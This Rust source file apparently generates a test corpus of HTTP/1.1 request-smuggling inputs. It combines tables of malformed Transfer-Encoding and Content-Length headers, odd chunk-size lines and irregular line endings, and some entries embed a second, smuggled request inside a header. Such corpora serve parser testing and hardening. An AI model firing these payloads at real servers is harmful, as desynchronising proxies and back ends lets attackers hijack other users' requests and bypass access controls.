//! What the literature on request smuggling does on purpose: Linhart and others, "HTTP Request Smuggling", 2005; Kettle, "HTTP Desync
//! Attacks", 2019; Jabiyev and others, "T-Reqs", 2021; Weikop, "Funky chunks", 2025.

/// Every entry of the tables once, each in a request that would be well-formed without it and has another behind it.
pub fn all() -> Vec<Vec<u8>> {
    const BEHIND: &[u8] = b"GET /behind HTTP/1.1\r\nHost: a\r\n\r\n";
    const LENGTH: &[u8] = b"Content-Length: 5\r\n";
    const CHUNKED: &[u8] = b"Transfer-Encoding: chunked\r\n";
    let request = |lines: &[&[u8]], body: &[&[u8]]| {
        let line = b"POST /a HTTP/1.1\r\nHost: a\r\n";
        [&line[..], &lines.concat(), b"\r\n", &body.concat(), BEHIND].concat()
    };
    let mut all = Vec::new();
    for line in LINES {
        all.push(request(&[line], &[]));
        for (framing, body) in [(LENGTH, &b"hello"[..]), (CHUNKED, b"5\r\nhello\r\n0\r\n\r\n")] {
            all.push(request(&[framing, line], &[body]));
            all.push(request(&[line, framing], &[body]));
        }
    }
    for coding in CODINGS {
        all.push(request(&[b"Transfer-Encoding:", coding, b"\r\n"], &[b"5\r\nhello\r\n0\r\n\r\n"]));
    }
    for length in LENGTHS {
        all.push(request(&[b"Content-Length:", &filled_in(length, b"5"), b"\r\n"], &[b"hello"]));
    }
    for line in CHUNK_LINES {
        all.push(request(&[CHUNKED], &[&filled_in(line, b"5"), b"hello\r\n0\r\n\r\n"]));
        all.push(request(&[CHUNKED], &[b"5\r\nhello\r\n", &filled_in(line, b"0"), b"\r\n"]));
    }
    for end in LINE_ENDS {
        all.push(request(&[CHUNKED], &[b"5\r\nhello", end, b"0\r\n\r\n"]));
        all.push(request(&[CHUNKED], &[b"5\r\nhello\r\n0\r\n", end]));
    }
    all
}

/// A template with its number.
pub fn filled_in(template: &[u8], number: &[u8]) -> Vec<u8> {
    template.iter().flat_map(|byte| if *byte == b'N' { number } else { std::slice::from_ref(byte) }).copied().collect()
}

/// Field lines that one parser takes for framing or routing and another does not, or that break the head.
pub const LINES: &[&[u8]] = &[
    b"Transfer-Encoding: chunked\r\n",
    b"Transfer-Encoding : chunked\r\n",
    b"Transfer-Encoding:\tchunked\r\n",
    b"Transfer-Encoding:\x0bchunked\r\n",
    b"Transfer-Encoding:\r\n chunked\r\n",
    b" Transfer-Encoding: chunked\r\n",
    b"X: x\nTransfer-Encoding: chunked\r\n",
    b"X: x\rTransfer-Encoding: chunked\r\n",
    b"\0Transfer-Encoding: chunked\r\n",
    b"Transfer-Encoding: identity\r\n",
    b"Transfer-Encoding: xchunked\r\n",
    b"Transfer-Encoding\r\n: chunked\r\n",
    b"Transfer-\xe9ncoding: chunked\r\n",
    b"Transfer_Encoding: chunked\r\n",
    b"tRANSFER-eNCODING: cHUNKED\r\n",
    b"Content-Length: 5\r\n",
    b"Content-Length: 0\r\n",
    b"Content-Length:5\r\n",
    b"Content-Length : 5\r\n",
    b"Content-Length:\t5\r\n",
    b"Content-Length: +5\r\n",
    b"Content-Length: 5, 5\r\n",
    b"Content-Length: 5\r\nContent-Length: 6\r\n",
    b"Content-Length\0: 5\r\n",
    b"Content_Length: 5\r\n",
    b"Content-Length: 5\nX: y\r\n",
    b"Host: b\r\n",
    b"Host: a, b\r\n",
    b"Host: a/b@c\r\n",
    b"Host:\r\n",
    b"Connection: close\r\n",
    b"Connection: Content-Length\r\n",
    b"Connection: Transfer-Encoding\r\n",
    b"Connection: Host, X-Forwarded-For\r\n",
    b"Connection: close, x\r\nX: gone\r\n",
    b"Expect: 100-continue\r\n",
    b"Expect: x 100-continue\r\n",
    b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n",
    b"TE: trailers, chunked\r\n",
    b"Trailer: Content-Length\r\n",
    b"X: y\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: b\r\n",
    b"GET /smuggled HTTP/1.1\r\n",
    b": empty name\r\n",
    b"no colon\r\n",
    b"\r\r\n",
    b"X-Bell: \x07\r\n",
    b"X-Del: \x7f\r\n",
];

/// Values of Transfer-Encoding, the white space before them too.
pub const CODINGS: &[&[u8]] = &[
    b" chunked",
    b"chunked",
    b"\tchunked\t",
    b" CHUNKED",
    b" chunked, chunked",
    b" gzip, chunked",
    b" chunked, gzip",
    b" chunked;q=1",
    b" \"chunked\"",
    b" chunked,",
    b" ,chunked",
    b" chunke",
    b" chunked x",
    b"\xa0chunked",
    b" chunked\x0b",
    b"",
];

/// Values of Content-Length; `N` stands for the number that it was.
pub const LENGTHS: &[&[u8]] = &[
    b" +N",
    b" -N",
    b" 0xN",
    b" 0N",
    b" N,N",
    b" N, N",
    b" N,",
    b" ,N",
    b" N;",
    b" N.0",
    b" Ne0",
    b" N_0",
    b" N N",
    b" \"N\"",
    b" N\t",
    b"\tN",
    b" \x0bN",
    b" N\x0c",
    b"\xa0N",
    b" N\0",
    b" N\r",
    b" N\r\nContent-Length: N",
    b" 18446744073709551616",
    b" 000000000000000000000N",
];

/// Lines of a chunk size; `N` as above.
pub const CHUNK_LINES: &[&[u8]] = &[
    b"0xN\r\n",
    b"+N\r\n",
    b"-N\r\n",
    b" N\r\n",
    b"N \r\n",
    b"\tN\r\n",
    b"N\t;a\r\n",
    b"N ;a=b\r\n",
    b"N;\r\n",
    b"N;a\n\r\n",
    b"N;a\rb\r\n",
    b"N;\nx\r\n",
    b"N;a\n",
    b"N;\"a\r\n",
    b"N;\"\r\n\"\r\n",
    b"N;\x01\r\n",
    b"N;\xe9\r\n",
    b"N\n",
    b"N\r",
    b"N\r\r\n",
    b"N\0\r\n",
    b"N,a\r\n",
    b"N_\r\n",
    b"N.0\r\n",
    b"N\r\n\r\n",
    b"\r\nN\r\n",
    b"0000000000000000N\r\n",
    b"10000000000000000N\r\n",
    b"fffffffffffffffN\r\n",
    b"0\r\n",
    b"0\r\n\r\n",
    b"N\r\nContent-Length: 5\r\n",
    b"N\r\n X: y\r\n",
];

/// What may stand where CR LF has to: at the end of a line, behind the data of a chunk, at the end of the trailer section. A parser that
/// passes over two bytes there without a look takes those of other length for part of what follows.
pub const LINE_ENDS: &[&[u8]] = &[
    b"",
    b"\n",
    b"\r",
    b"\r\r\n",
    b"\n\r",
    b"\n\n",
    b"\r\r",
    b"\r\n\r\n",
    b" \r\n",
    b"\0\r\n",
    b"\x85\r\n",
    b"x\n",
    b"\rx",
    b"xy",
];
